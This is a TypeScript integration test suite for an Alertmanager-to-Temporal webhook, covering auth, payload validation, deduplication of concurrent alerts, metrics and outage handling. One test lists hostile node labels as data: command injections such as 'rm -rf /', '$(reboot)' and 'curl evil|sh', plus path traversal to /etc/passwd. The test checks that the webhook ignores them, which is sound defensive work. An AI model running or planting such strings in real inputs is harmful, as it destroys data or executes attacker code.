// The alert webhook over real HTTP against a real Temporal dev server (no worker: these tests
// are about what gets recorded, not what runs). Every bad request is answered with the §8 status
// and a message naming the problem, and starts no workflow (checked by listing workflows).
import { spawnSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Client, Connection, WorkflowNotFoundError } from '@temporalio/client';
import type { TestWorkflowEnvironment } from '@temporalio/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { defaultPolicy, loadCluster } from '../../src/config/loader.js';
import { RunbookLogger } from '../../src/logging/logger.js';
import { startWebhookServer, type WebhookServer } from '../../src/webhook/server.js';
import { type IncidentIntake, temporalIntake } from '../../src/webhook/temporal-intake.js';
import { freePort } from '../helpers/free-port.js';
import { startDevEnv, uniqueId } from '../helpers/temporal-env.js';
import { waitFor } from '../helpers/wait.js';
import { alert, notification, post } from './alerts.js';

const TOKEN = 'test-webhook-token-7f3a9c1e5b';
const NODES = ['gpu-1', 'gpu-2', 'gpu-3'];
const taskQueue = uniqueId('webhook-intake-q');
const logLines: string[] = [];
let env: TestWorkflowEnvironment;
let hook: WebhookServer;

beforeAll(async () => {
  env = await startDevEnv();
  const dir = mkdtempSync(join(tmpdir(), 'runbook-webhook-'));
  const hostsFile = join(dir, 'distributed_hosts.yaml');
  // Never contacted: no worker runs here. Addresses in this file's subnet (110) all the same.
  writeFileSync(hostsFile, `hosts:\n${NODES.map((n, i) => `  - name: ${n}\n    host: 127.16.0.${i + 1}\n`).join('')}`);
  const cluster = loadCluster(hostsFile);
  hook = await startWebhookServer({
    client: env.client,
    taskQueue,
    cluster: () => cluster,
    policy: defaultPolicy(),
    token: TOKEN,
    uiUrl: 'http://ui.test',
    logger: new RunbookLogger({ format: 'json', write: (l) => logLines.push(l) }),
  });
});

afterAll(async () => {
  await hook?.close();
  await env?.teardown();
});

/** A second webhook on the same dev server whose Temporal intake the test wraps. */
function webhookWith(wrapIntake: (real: IncidentIntake) => IncidentIntake): Promise<WebhookServer> {
  const cluster = loadCluster(writeHosts(NODES));
  return startWebhookServer({ client: env.client, taskQueue, cluster: () => cluster, policy: defaultPolicy(), token: TOKEN, uiUrl: 'http://ui.test', wrapIntake });
}

/** The value of one series in the Prometheus text. */
function metric(text: string, series: string): number {
  return Number(new RegExp(`^${series.replace(/[{}"[\]]/g, '\\$&')} (\\S+)$`, 'm').exec(text)?.[1]);
}

async function workflowIds(): Promise<string[]> {
  const ids: string[] = [];
  for await (const w of env.client.workflow.list({ query: `TaskQueue = "${taskQueue}"` })) ids.push(w.workflowId);
  return ids.sort();
}

/**
 * Runs a bad request, then proves nothing was started: a valid sentinel alert posted after it
 * becomes visible in the workflow list, and the list holds nothing else new. The sentinel is
 * escalate-only, so it gets an incident of its own (a remediating cluster alert would join the
 * open cluster incident, which never ends here: no worker).
 */
async function expectNothingStarted(badRequest: () => Promise<void>): Promise<void> {
  const before = await workflowIds();
  await badRequest();
  const sentinel = await post(hook.url, notification([alert({ alertname: 'ClusterHealthCritical', startsAt: new Date(Date.now() + Math.random() * 1e9).toISOString() })]), TOKEN);
  expect(sentinel.status).toBe(202);
  const id = sentinel.body.accepted![0]!.workflowId!;
  const after = await waitFor(`sentinel ${id} to be listed`, async () => {
    const ids = await workflowIds();
    return ids.includes(id) ? ids : undefined;
  });
  expect(after.filter((x) => !before.includes(x))).toEqual([id]);
}

const degraded = (labels: Record<string, string> = {}): Record<string, unknown> =>
  notification([alert({ alertname: 'ClusterConnectivityDegraded', labels })]);

describe('POST /alerts/alertmanager refuses bad requests and starts nothing', () => {
  it('no token: 401 naming the missing header', async () => {
    await expectNothingStarted(async () => {
      const r = await post(hook.url, degraded(), null);
      expect(r.status).toBe(401);
      expect(r.body.error).toMatch(/missing "Authorization: Bearer <token>" header/);
    });
  });

  it('wrong token, and a token in the wrong scheme: 401', async () => {
    await expectNothingStarted(async () => {
      const r = await post(hook.url, degraded(), `${TOKEN}x`);
      expect(r.status).toBe(401);
      expect(r.body.error).toBe('wrong bearer token');
      const basic = await fetch(`${hook.url}/alerts/alertmanager`, {
        method: 'POST',
        headers: { authorization: `Basic ${Buffer.from(`x:${TOKEN}`).toString('base64')}` },
        body: JSON.stringify(degraded()),
      });
      expect(basic.status).toBe(401);
      expect(((await basic.json()) as { error: string }).error).toMatch(/malformed Authorization header/);
    });
  });

  it('a body over 1 MiB: 413', async () => {
    await expectNothingStarted(async () => {
      const r = await post(hook.url, undefined, TOKEN, JSON.stringify({ ...degraded(), pad: 'x'.repeat(1024 * 1024) }));
      expect(r.status).toBe(413);
      expect(r.body.error).toBe(`body larger than ${1024 * 1024} bytes`);
    });
  });

  it('malformed JSON: 400', async () => {
    await expectNothingStarted(async () => {
      const r = await post(hook.url, undefined, TOKEN, '{"version": "4", "alerts": [');
      expect(r.status).toBe(400);
      expect(r.body.error).toMatch(/^body is not valid JSON/);
    });
  });

  it('wrong version: 400 naming "version"', async () => {
    await expectNothingStarted(async () => {
      const r = await post(hook.url, { ...degraded(), version: '3' }, TOKEN);
      expect(r.status).toBe(400);
      expect(r.body.error).toMatch(/^version: only version "4"/);
    });
  });

  it('missing alerts: 400 naming "alerts"', async () => {
    await expectNothingStarted(async () => {
      const { alerts: _alerts, ...rest } = degraded();
      const r = await post(hook.url, rest, TOKEN);
      expect(r.status).toBe(400);
      expect(r.body.error).toBe('alerts: required field is missing');
    });
  });

  it('a bad field inside one alert: 400 naming its path', async () => {
    await expectNothingStarted(async () => {
      const r = await post(hook.url, notification([alert({ alertname: 'NodeEvicted' }), { ...alert({ alertname: 'NodeEvicted' }), startsAt: 'yesterday' }]), TOKEN);
      expect(r.status).toBe(400);
      expect(r.body.error).toMatch(/^alerts\[1\]\.startsAt: /);
    });
  });

  // startsAt goes into the workflow ID, the input and the Web UI summary; a value Date cannot
  // read used to throw after the post's earlier alerts were started (a 500 Alertmanager retries
  // for ever). Every alert is checked before any starts; the 400 names the alert and the field.
  it.each([
    {
      what: 'a 900 KB startsAt',
      bad: { startsAt: `2026-01-01T00:00:00.${'1'.repeat(900_000)}Z` },
      error: /^alerts\[1\]\.startsAt: longer than 40 characters \(900021\): not an RFC 3339 time \(alert 1, alertname "NodeEvicted"\)$/,
    },
    {
      what: 'a zone offset of +99:99',
      bad: { startsAt: '2026-01-01T00:00:00+99:99' },
      error: /^alerts\[1\]\.startsAt: zone offset \+99:99 out of range \(at most ±23:59\) \(alert 1, alertname "NodeEvicted"\)$/,
    },
    {
      what: 'February 30th',
      bad: { startsAt: '2026-02-30T00:00:00Z' },
      error: /^alerts\[1\]\.startsAt: no such date \(alert 1, alertname "NodeEvicted"\)$/,
    },
    {
      what: 'an endsAt that is no time',
      bad: { endsAt: 'soon' },
      error: /^alerts\[1\]\.endsAt: not an RFC 3339 time .* \(alert 1, alertname "NodeEvicted"\)$/,
    },
  ])('$what in the second alert: 400 naming the alert and the field; the first alert is not started either', async ({ bad, error }) => {
    await expectNothingStarted(async () => {
      const good = alert({ alertname: 'NodeEvicted', labels: { node: 'gpu-1' } });
      const r = await post(hook.url, notification([good, { ...alert({ alertname: 'NodeEvicted', labels: { node: 'gpu-2' } }), ...bad }]), TOKEN);
      expect(r.status).toBe(400);
      expect(r.body.error).toMatch(error);
    });
  });

  it("Go's zero endsAt of a firing alert and a nanosecond startsAt with an offset are fine", async () => {
    const r = await post(hook.url, notification([{ ...alert({ alertname: 'ClusterHealthCritical' }), startsAt: '2026-07-08T09:10:11.123456789+05:30', endsAt: '0001-01-01T00:00:00Z' }]), TOKEN);
    expect(r.status, r.body.error).toBe(202);
    expect(r.body.accepted![0]).toMatchObject({ action: 'started', workflowId: 'incident-connectivity-incident-escalate-only-cluster-20260708T034011123Z' });
  });

  it('an unknown alert name: 202, ignored with the reason', async () => {
    await expectNothingStarted(async () => {
      const r = await post(hook.url, notification([alert({ alertname: 'DiskFull' })]), TOKEN);
      expect(r.status).toBe(202);
      expect(r.body.accepted).toEqual([expect.objectContaining({ alert: 'DiskFull', action: 'ignored', reason: 'no route for alert "DiskFull" (config/runbook.yaml alerts:)' })]);
      expect(r.body.accepted![0]).not.toHaveProperty('workflowId');
    });
  });

  it('an unknown node, and a NodeEvicted without a node label: 202, ignored', async () => {
    await expectNothingStarted(async () => {
      const r = await post(hook.url, notification([alert({ alertname: 'NodeEvicted', labels: { node: 'gpu-9' } }), alert({ alertname: 'NodeEvicted' })]), TOKEN);
      expect(r.status).toBe(202);
      expect(r.body.accepted!.map((a) => [a.action, a.reason])).toEqual([
        ['ignored', 'label node="gpu-9" names no configured node'],
        ['ignored', 'recover-node needs the label "node" naming a node; the alert has none'],
      ]);
    });
  });

  it('shell metacharacters and path traversal in labels: ignored, never a node, never a workflow', async () => {
    const hostile = ['gpu-1; rm -rf / #', '$(reboot)', '`id`', 'gpu-1 && curl evil|sh', '../../etc/passwd', 'gpu-1/../gpu-2', 'gpu-1\nEVIL'];
    await expectNothingStarted(async () => {
      const r = await post(hook.url, notification(hostile.map((node) => alert({ alertname: 'NodeEvicted', labels: { node } }))), TOKEN);
      expect(r.status).toBe(202);
      expect(r.body.accepted!.map((a) => a.action)).toEqual(hostile.map(() => 'ignored'));
      r.body.accepted!.forEach((a) => expect(a.reason).toMatch(/^label node=".*" names no configured node$/));
      // An alert name with the same tricks is just an unknown name.
      const named = await post(hook.url, notification([alert({ alertname: '../NodeEvicted;reboot' })]), TOKEN);
      expect(named.body.accepted![0]).toMatchObject({ action: 'ignored', reason: 'no route for alert "../NodeEvicted;reboot" (config/runbook.yaml alerts:)' });
    });
  });

  it('10,000 alerts in one post: 413 (over the body limit); 1,001 small ones: 400 naming the cap', async () => {
    await expectNothingStarted(async () => {
      const many = Array.from({ length: 10_000 }, () => alert({ alertname: 'NodeEvicted', labels: { node: 'gpu-1' } }));
      const big = await post(hook.url, notification(many), TOKEN);
      expect(big.status).toBe(413);
      const small = Array.from({ length: 1001 }, (_, i) => ({ status: 'firing', labels: { alertname: 'X' }, startsAt: '2026-01-01T00:00:00Z', fingerprint: `f${i}` }));
      const r = await post(hook.url, notification(small), TOKEN);
      expect(r.status).toBe(400);
      expect(r.body.error).toBe('alerts: 1001 alerts in one notification, at most 1000 (set max_alerts on the Alertmanager receiver)');
    });
  });

  it('a resolved notification for an unknown incident: ignored, starts nothing', async () => {
    await expectNothingStarted(async () => {
      const r = await post(hook.url, notification([alert({ alertname: 'ClusterConnectivityDegraded', status: 'resolved', startsAt: '2026-01-02T03:04:05Z' })], 'resolved'), TOKEN);
      expect(r.status).toBe(202);
      expect(r.body.accepted).toEqual([
        expect.objectContaining({ action: 'ignored', reason: 'no incident for this alert', workflowId: 'incident-connectivity-incident-cluster-20260102T030405000Z' }),
      ]);
    });
  });
});

describe('one alert occurrence, one incident', () => {
  it('100 identical posts at once start exactly one workflow; the others join it', async () => {
    const body = notification([alert({ alertname: 'NodeEvicted', labels: { node: 'gpu-2' }, startsAt: '2026-03-04T05:06:07.123456789Z', fingerprint: 'abc123' })]);
    const answers = await Promise.all(Array.from({ length: 100 }, () => post(hook.url, body, TOKEN)));
    expect(answers.map((a) => a.status)).toEqual(answers.map(() => 202));
    const actions = answers.map((a) => a.body.accepted![0]!.action);
    expect(actions.filter((a) => a === 'started')).toHaveLength(1);
    expect(actions.filter((a) => a === 'joined')).toHaveLength(99);
    const id = 'incident-recover-node-gpu-2-20260304T050607123Z';
    expect(new Set(answers.map((a) => a.body.accepted![0]!.workflowId))).toEqual(new Set([id]));
    expect(answers[0]!.body.accepted![0]!.url).toBe(`http://ui.test/namespaces/default/workflows/${id}`);
    await waitFor('the incident to be listed', async () => (await workflowIds()).includes(id));
    expect((await workflowIds()).filter((x) => x.startsWith('incident-recover-node-gpu-2-'))).toEqual([id]);
    const d = await env.client.workflow.getHandle(id).describe();
    expect(d.type).toBe('connectivity-incident');
    // A re-fire with a new startsAt is a new incident.
    const again = await post(hook.url, notification([alert({ alertname: 'NodeEvicted', labels: { node: 'gpu-2' }, startsAt: '2026-03-04T06:00:00Z' })]), TOKEN);
    expect(again.body.accepted![0]).toMatchObject({ action: 'started', workflowId: 'incident-recover-node-gpu-2-20260304T060000000Z' });
  });

  it('identical posts while a call is in flight share it: one workflow, one start, one signal, all 202', async () => {
    // The Temporal call is held until every post has arrived, so the posts overlap for sure.
    let release!: () => void;
    const gate = new Promise<void>((r) => (release = r));
    let calls = 0;
    const gated = await webhookWith((real) => ({
      ...real,
      fire: async (req) => {
        calls++;
        await gate;
        return real.fire(req);
      },
    }));
    try {
      const body = notification([alert({ alertname: 'NodeEvicted', labels: { node: 'gpu-3' }, startsAt: '2026-05-06T07:08:09Z', fingerprint: 'c0a1e5ce' })]);
      const answers = Promise.all(Array.from({ length: 30 }, () => post(gated.url, body, TOKEN)));
      await waitFor('all 30 posts to be received', () => metric(gated.metrics.text(), 'runbook_webhook_alerts_received_total{status="firing"}') === 30);
      release();
      const res = await answers;
      expect(res.map((r) => r.status)).toEqual(res.map(() => 202));
      const actions = res.map((r) => r.body.accepted![0]!.action);
      expect(actions.filter((a) => a === 'started')).toHaveLength(1);
      expect(actions.filter((a) => a === 'joined')).toHaveLength(29);
      const id = 'incident-recover-node-gpu-3-20260506T070809000Z';
      expect(new Set(res.map((r) => r.body.accepted![0]!.workflowId))).toEqual(new Set([id]));
      expect(calls).toBe(1);
      expect(metric(gated.metrics.text(), 'runbook_webhook_alerts_coalesced_total')).toBe(29);
      // One call, so one `alert` signal recorded: the incident's `repeats` counts calls, not posts.
      const events = (await env.client.workflow.getHandle(id).fetchHistory()).events ?? [];
      expect(events.filter((e) => e.workflowExecutionSignaledEventAttributes).map((e) => e.workflowExecutionSignaledEventAttributes!.signalName)).toEqual(['alert']);
      await waitFor('the incident to be listed', async () => (await workflowIds()).includes(id));
      expect((await workflowIds()).filter((x) => x.startsWith('incident-recover-node-gpu-3-'))).toEqual([id]);
    } finally {
      release();
      await gated.close();
    }
  });

  it('a repeat of a recorded occurrence is joined without a Temporal call; after its resolved notification a repeat asks Temporal again', async () => {
    let calls = 0;
    const counted = await webhookWith((real) => ({
      ...real,
      fire: (req) => {
        calls++;
        return real.fire(req);
      },
    }));
    try {
      const labels = { node: 'gpu-1' };
      const startsAt = '2026-05-06T09:00:00Z';
      const fire = notification([alert({ alertname: 'NodeEvicted', labels, startsAt, fingerprint: 'be1a7ed' })]);
      const id = 'incident-recover-node-gpu-1-20260506T090000000Z';
      expect((await post(counted.url, fire, TOKEN)).body.accepted![0]).toMatchObject({ action: 'started', workflowId: id });
      const repeats = await Promise.all(Array.from({ length: 5 }, () => post(counted.url, fire, TOKEN)));
      expect(repeats.map((r) => [r.status, r.body.accepted![0]!.action])).toEqual(Array(5).fill([202, 'joined']));
      expect(calls).toBe(1);
      const signals = async () =>
        ((await env.client.workflow.getHandle(id).fetchHistory()).events ?? []).flatMap((e) => e.workflowExecutionSignaledEventAttributes?.signalName ?? []);
      expect(await signals()).toEqual(['alert']);
      // The resolved notification goes to Temporal and forgets the occurrence: the next repeat is a call.
      const resolved = await post(counted.url, notification([alert({ alertname: 'NodeEvicted', labels, startsAt, fingerprint: 'be1a7ed', status: 'resolved' })], 'resolved'), TOKEN);
      expect(resolved.body.accepted![0]).toMatchObject({ action: 'signalled', workflowId: id });
      const late = await post(counted.url, fire, TOKEN);
      expect(late.body.accepted![0]).toMatchObject({ action: 'joined', workflowId: id });
      expect(calls).toBe(2);
      // No worker runs in this file, so the incident is still open and the repeat is its second signal.
      expect(await signals()).toEqual(['alert', 'alert-resolved', 'alert']);
    } finally {
      await counted.close();
    }
  });

  it('posts sharing a call that fails are all answered 503, nothing is recorded, and the retry is 202', async () => {
    // The first call goes to a Temporal that is not there (a real client, nothing listens; no
    // gRPC retries, so it fails at once instead of at the 8 s deadline), the retry to the dev server.
    const connection = Connection.lazy({ address: `127.0.0.1:${await freePort()}`, interceptors: [] });
    const down = temporalIntake(new Client({ connection }), taskQueue);
    let release!: () => void;
    const gate = new Promise<void>((r) => (release = r));
    let calls = 0;
    const flaky = await webhookWith((real) => ({
      ...real,
      fire: async (req) => {
        if (++calls > 1) return real.fire(req);
        await gate;
        return down.fire(req);
      },
    }));
    try {
      const body = notification([alert({ alertname: 'NodeEvicted', labels: { node: 'gpu-1' }, startsAt: '2026-05-06T08:00:00Z', fingerprint: 'fa11ed' })]);
      const answers = Promise.all(Array.from({ length: 5 }, () => post(flaky.url, body, TOKEN)));
      await waitFor('all 5 posts to be received', () => metric(flaky.metrics.text(), 'runbook_webhook_alerts_received_total{status="firing"}') === 5);
      release();
      const res = await answers;
      expect(res.map((r) => r.status)).toEqual([503, 503, 503, 503, 503]);
      for (const r of res) expect(r.body.error).toMatch(/^Temporal could not start or signal the incident/);
      expect(calls).toBe(1);
      const id = 'incident-recover-node-gpu-1-20260506T080000000Z';
      await expect(env.client.workflow.getHandle(id).describe()).rejects.toThrow(WorkflowNotFoundError);
      // Alertmanager's retry: a call of its own, which records the alert.
      const retry = await post(flaky.url, body, TOKEN);
      expect(retry.status).toBe(202);
      expect(retry.body.accepted![0]).toMatchObject({ action: 'started', workflowId: id });
      expect(calls).toBe(2);
    } finally {
      release();
      await flaky.close();
      await connection.close();
    }
  });

  it('the token never reaches a log line', () => {
    expect(logLines.length).toBeGreaterThan(0);
    for (const l of logLines) expect(l).not.toContain(TOKEN);
  });
});

describe('health and metrics', () => {
  it('GET /healthz is 200 while Temporal answers', async () => {
    const r = await fetch(`${hook.url}/healthz`);
    expect(r.status).toBe(200);
  });

  it('GET /metrics counts what happened and passes promtool check metrics', async () => {
    const text = await (await fetch(`${hook.url}/metrics`)).text();
    const value = (series: string): number => metric(text, series);
    expect(value('runbook_webhook_incidents_total{action="started"}')).toBeGreaterThanOrEqual(2);
    expect(value('runbook_webhook_incidents_total{action="joined"}')).toBeGreaterThanOrEqual(99);
    expect(value('runbook_webhook_requests_rejected_total{reason="unauthorized"}')).toBeGreaterThanOrEqual(3);
    expect(value('runbook_webhook_requests_rejected_total{reason="too_large"}')).toBeGreaterThanOrEqual(2);
    expect(value('runbook_webhook_requests_rejected_total{reason="bad_payload"}')).toBeGreaterThanOrEqual(4);
    expect(value('runbook_webhook_requests_rejected_total{reason="bad_json"}')).toBe(1);
    expect(value('runbook_webhook_request_duration_seconds_count')).toBeGreaterThan(100);
    // Debian's prometheus package ships promtool; .ci/run installs it.
    const check = spawnSync('promtool', ['check', 'metrics'], { input: text });
    expect(check.error, 'promtool is not installed').toBeUndefined();
    expect(check.status, check.stderr.toString() + check.stdout.toString()).toBe(0);
  });

  it('answers 503 when Temporal cannot record the alert, so Alertmanager retries', async () => {
    // A real client whose server is gone: nothing listens on this port.
    const connection = Connection.lazy({ address: `127.0.0.1:${await freePort()}` });
    const cluster = loadCluster(writeHosts());
    const down = await startWebhookServer({
      client: new Client({ connection }),
      taskQueue,
      cluster: () => cluster,
      policy: defaultPolicy(),
      token: TOKEN,
      uiUrl: 'http://ui.test',
    });
    try {
      const r = await post(down.url, degraded(), TOKEN);
      expect(r.status).toBe(503);
      expect(r.body.error).toMatch(/^Temporal could not start or signal the incident/);
      expect((await fetch(`${down.url}/healthz`)).status).toBe(503);
      // An ignored alert needs no Temporal: still a 202.
      expect((await post(down.url, notification([alert({ alertname: 'DiskFull' })]), TOKEN)).status).toBe(202);
    } finally {
      await down.close();
      await connection.close();
    }
  });
});

function writeHosts(nodes: readonly string[] = ['gpu-1']): string {
  const dir = mkdtempSync(join(tmpdir(), 'runbook-webhook-'));
  const file = join(dir, 'distributed_hosts.yaml');
  writeFileSync(file, `hosts:\n${nodes.map((n, i) => `  - name: ${n}\n    host: 127.16.0.${i + 1}\n`).join('')}`);
  return file;
}
